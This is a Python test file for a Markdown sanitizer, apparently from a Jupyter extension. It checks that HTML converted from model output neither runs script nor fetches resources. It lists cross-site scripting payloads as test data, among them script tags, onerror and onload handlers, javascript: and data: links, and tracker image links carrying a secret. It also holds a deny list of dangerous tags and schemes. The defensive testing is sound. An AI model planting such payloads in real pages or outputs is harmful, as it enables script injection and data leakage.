"""A model's Markdown runs nothing and fetches nothing, also where a converter cleans nothing."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.filters.markdown_mistune import markdown2html_mistune

from gemfiles_jupyter.safe_text import safe_markdown

DANGEROUS = {"img", "script", "iframe", "object", "embed", "svg", "style", "form", "base", "link"}
HARMFUL = ("javascript:", "data:", "vbscript:")


class Danger(HTMLParser):
    """Collects what would run or be fetched."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in DANGEROUS:
            self.found.append(tag)
        for name, value in attributes:
            if name.startswith("on") or (value or "").lower().startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                self.found.append(f"{tag} {name}={value}")


ATTACKS = [
    "<script>a</script>",
    "<img src=x onerror=a>",
    "text\n    <img src=x onerror=a>",
    "- item\n\n    <img src=x onerror=a>",
    "- item\n  ```\n<img src=x onerror=a>\n",
    "  ```\ncode\n```\n<img src=x onerror=a>",
    "~~~\ncode\n  ~~~\n<img src=x onerror=a>",
    "`\n` <img src=x onerror=a> `",
    "$$\n\n```\n$$<img src=x onerror=a>\n```",
    "\\begin{a}\n```\n\\end{a}<script>a</script>\n```",
    "![a](https://tracker.example/?q=secret)",
    "![a][b]\n\n[b]: https://tracker.example",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x]\n\n[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](data:text/html,<script>a</script>)",
    "<!-- --><svg/onload=a>",
    "</div><style>*{}</style>",
]
# What can change what another token means.
FENCES = ["```", "~~~", "```html", " ```", "`", "``", "\\", "$", "$$", "\\begin{a}", "\\end{a}", "\\[", "\\]"]
BLOCKS = [
    "- ",
    "> ",
    "1. ",
    "    ",
    "\t",
    "\n",
    "\n\n",
    "\n---\n",
    "# ",
    "<div>",
    "</div>",
    "<!--",
    "-->",
    "|",
]
LOADS = ["<img src=x onerror=a>", "<script>a</script>", "![a](http://e)", "[x](javascript:a)", "![a][b]"]
PIECES = ["[b]: javascript:a", "[b]", "[", "](u)", "!", "](", "]: "]


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_does_nothing(text: str) -> None:
    assert Danger(markdown2html_mistune(safe_markdown(text))).found == []


def test_the_attacks_are_attacks() -> None:
    found = [text for text in ATTACKS if Danger(markdown2html_mistune(text)).found]

    assert len(found) >= len(ATTACKS) - 4


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from([*FENCES, *BLOCKS, *LOADS, *PIECES]), max_size=14))
def test_no_mixture_of_markup_does_anything(tokens: list[str]) -> None:
    text = "".join(tokens)
    try:
        html = markdown2html_mistune(safe_markdown(text))
    except Exception:  # the converter's own troubles with half of a table or a tag
        return

    assert Danger(html).found == []


@pytest.mark.parametrize(
    "text",
    [
        "**bold** and `code`",
        "```cpp\n#include <stdio.h>\nvector<int> a;\n```",
        "a < b, b > c, x<3",
        "See [the page](https://example.com/a?b=c) or [below](#here).",
        "| a | b |\n|---|---|\n| 1 | 2 |",
        "$a < b$ and $$\\sum_{i}$$",
        "# Title\n\n- one\n- two",
    ],
)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert safe_markdown(text) == text


def test_a_fence_that_is_open_is_closed() -> None:
    assert safe_markdown("```python\nx = 1") == "```python\nx = 1\n```"
